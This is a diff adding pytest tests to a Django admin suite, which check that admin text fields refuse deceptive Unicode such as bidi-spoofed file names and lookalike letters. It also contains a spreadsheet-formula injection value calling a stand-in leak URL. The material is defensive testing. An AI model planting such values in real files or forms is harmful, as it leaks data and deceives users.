@@ -173,3 +173,73 @@ def test_a_nul_byte_is_also_refused_in_the_path(browser, world):
 def test_history_records_exist_to_try(world):
     # Guard against the history tries above silently having nothing to post to.
     assert issubclass(type(world["project"].history.first()), HistoricalChanges)
+
+
+# --- Text that deceives, in every text field of every admin form (issue 16) ---------------------------
+
+DECEIVING = {"bidi": "x\u202egnp.exe", "bom": "\ufeff", "isolate": "a\u2066b", "fraktur": "𝔅ℭ", "fullwidth": "ＳＣＴ"}
+LOOKALIKE_KINDS = {"fraktur", "fullwidth"}
+FORMULA = '=HYPERLINK("http://x.example/?leak","click")'
+
+
+def _text_fields(page):
+    """(form, field name, posted key, multiline) for every text input of the page's form and first inline rows."""
+    forms_on_page = [page.context["adminform"].form]
+    forms_on_page += [
+        inline.formset.forms[0] for inline in page.context["inline_admin_formsets"] if inline.formset.forms
+    ]
+    for form in forms_on_page:
+        for name, field in form.fields.items():
+            widget = field.widget
+            if type(field) not in (forms.CharField, forms.SlugField, forms.EmailField) and not (
+                isinstance(field, forms.CharField) and field.__class__.__module__.startswith("django.contrib.auth")
+            ):
+                continue
+            if isinstance(widget, (forms.HiddenInput, forms.PasswordInput)) or widget.attrs.get("readonly"):
+                continue
+            yield form, name, form.add_prefix(name), isinstance(widget, forms.Textarea)
+
+
+def _errors_of(response, key: str) -> list:
+    context = response.context
+    errors = list(context["adminform"].form.errors.get(key, []))
+    for inline in context["inline_admin_formsets"]:
+        for form in inline.formset.forms:
+            for name, messages in form.errors.items():
+                if form.add_prefix(name) == key:
+                    errors.extend(messages)
+    return errors
+
+
+def _state(model, row):
+    return model._default_manager.filter(pk=row.pk).values().first()
+
+
+@pytest.mark.parametrize("model", MODELS, ids=lambda m: m._meta.label_lower)
+def test_every_text_field_refuses_deceiving_text_at_the_field(browser, world, model):
+    row = a_row(model)
+    url = admin_url(model, "change", row.pk)
+    page = browser.get(url)
+    if page.status_code != 200 or "adminform" not in (page.context or {}):
+        pytest.skip("no change form")
+    valid = page_data(page)
+    fields = list(_text_fields(page))
+    if not fields:
+        pytest.skip("no text field")
+    control = browser.post(url, valid)
+    assert control.status_code == 302, (
+        f"the page's own data is refused: {control.context and control.context['errors']}"
+    )
+    for _form, _name, key, multiline in fields:
+        current = valid.get(key) or ""
+        before = _state(model, row)
+        for kind, hostile in DECEIVING.items():
+            if multiline and kind in LOOKALIKE_KINDS:
+                continue  # free text may quote a lookalike
+            response = browser.post(url, {**valid, key: f"{current}{hostile}"})
+            assert response.status_code == 200, f"{key} with {kind} was saved"
+            assert _errors_of(response, key), f"{key} with {kind}: no error at the field"
+            assert _state(model, row) == before, f"{key} with {kind} changed the row"
+        response = browser.post(url, {**valid, key: FORMULA})
+        assert_not_500(response, f"{key}={FORMULA}")
+        browser.post(url, valid)  # as it was, for the next field
